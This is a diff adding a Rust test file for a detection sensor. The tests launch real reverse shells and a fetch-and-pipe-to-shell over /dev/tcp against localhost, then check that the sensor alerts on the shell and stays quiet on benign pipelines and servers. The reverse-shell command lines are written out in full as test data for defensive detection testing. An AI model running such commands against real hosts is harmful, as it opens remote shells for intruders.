@@ -1,0 +1,152 @@
+//! The drills of `sensor drill`: every kind of remote shell, for real, with and without
+//! trampolines; and things that look alike and must stay silent.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::indexing_slicing,
+    reason = "a test fails by panicking"
+)]
+
+use std::io::{Read as _, Write as _};
+use std::net::{TcpListener, TcpStream};
+use std::path::Path;
+use std::process::{Command, Stdio};
+
+use sensor_tests::{Event, Launch, field, sensor_binary, skip, text};
+
+/// Runs all drills; gives what became of each.
+fn drill(arguments: &[&str]) -> Vec<Event> {
+    let output = Command::new(sensor_binary().unwrap())
+        .args(["drill", "--json"])
+        .args(arguments)
+        .stderr(Stdio::inherit())
+        .output()
+        .unwrap();
+    let lines = String::from_utf8(output.stdout).unwrap();
+    lines
+        .lines()
+        .map(|line| serde_json::from_str(line).unwrap())
+        .collect()
+}
+
+fn assert_all_seen(arguments: &[&str]) {
+    if !Path::new("/bin/sh").exists() {
+        return skip("there is no shell here");
+    }
+    let outcomes = drill(arguments);
+    assert!(outcomes.len() >= 13, "{}", outcomes.len());
+    let missed: Vec<_> = outcomes
+        .iter()
+        .filter(|outcome| outcome["seen"] != true || outcome["obeyed"] != true)
+        .map(|outcome| format!("{}: {}", outcome["drill"], outcome["error"]))
+        .collect();
+    assert!(missed.is_empty(), "{missed:#?}");
+}
+
+#[test]
+fn every_kind_of_remote_shell_is_seen() {
+    assert_all_seen(&[]);
+}
+
+#[test]
+fn every_kind_of_remote_shell_is_seen_without_trampolines() {
+    assert_all_seen(&["--no-trampolines"]);
+}
+
+#[test]
+fn an_unknown_drill_is_named_and_the_list_is_pointed_to() {
+    let output = Command::new(sensor_binary().unwrap())
+        .args(["drill", "no-such-drill"])
+        .output()
+        .unwrap();
+    assert_eq!(output.status.code(), Some(2));
+    let error = String::from_utf8_lossy(&output.stderr).into_owned();
+    assert!(
+        error.contains("no-such-drill") && error.contains("--list"),
+        "{error}"
+    );
+}
+
+/// What happens on healthy hosts; ends with something that must be seen, so that silence before
+/// it means something.
+#[test]
+fn what_healthy_hosts_do_raises_no_alarm() {
+    let (sh, bash) = (Path::new("/bin/sh"), Path::new("/bin/bash"));
+    if !sh.exists() || !bash.exists() {
+        return skip("there is no bash here");
+    }
+    let sensor = Launch::default()
+        .detecting()
+        .with(["--events", "alert"])
+        .start()
+        .unwrap();
+    // A script fetched and piped to a shell: one way only.
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let mut fetch = Command::new(bash)
+        .arg("-c")
+        .arg(format!(
+            "exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&3 | sh >/dev/null"
+        ))
+        .spawn()
+        .unwrap();
+    let (mut served, _) = listener.accept().unwrap();
+    served.write_all(b"true; echo installed\n").unwrap();
+    drop(served);
+    fetch.wait().unwrap();
+    // A server that runs a script for each connection, with the connection as its streams.
+    let server = TcpListener::bind("127.0.0.1:0").unwrap();
+    let mut client = TcpStream::connect(server.local_addr().unwrap()).unwrap();
+    let (connection, _) = server.accept().unwrap();
+    let connection = std::os::fd::OwnedFd::from(connection);
+    let mut handler = Command::new(sh)
+        .args(["-c", "read line; echo got $line"])
+        .stdin(connection.try_clone().unwrap())
+        .stdout(connection)
+        .spawn()
+        .unwrap();
+    client.write_all(b"hello\n").unwrap();
+    let mut answer = String::new();
+    client.read_to_string(&mut answer).unwrap();
+    assert_eq!(answer, "got hello\n");
+    handler.wait().unwrap();
+    // Pipelines.
+    assert!(
+        Command::new(bash)
+            .args([
+                "-c",
+                "seq 100 | sort -r | sh -c 'cat' | head -n 1 >/dev/null"
+            ])
+            .status()
+            .unwrap()
+            .success()
+    );
+    // The mark that ends it.
+    let attacker = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = attacker.local_addr().unwrap().port();
+    let mut shell = Command::new(bash)
+        .arg("-c")
+        .arg(format!(
+            "exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
+        ))
+        .spawn()
+        .unwrap();
+    let (mut master, _) = attacker.accept().unwrap();
+    master.write_all(b"exit\n").unwrap();
+    shell.wait().unwrap();
+
+    let mut sensor = sensor;
+    sensor
+        .wait_for(|event| field(event, "destination.port") == port)
+        .unwrap();
+    let finished = sensor.stop().unwrap();
+    let alerts: Vec<_> = finished
+        .events
+        .iter()
+        .filter(|event| text(event, "event.kind") == "alert")
+        .map(|event| text(event, "message"))
+        .collect();
+    assert_eq!(alerts.len(), 1, "{alerts:#?}");
+}
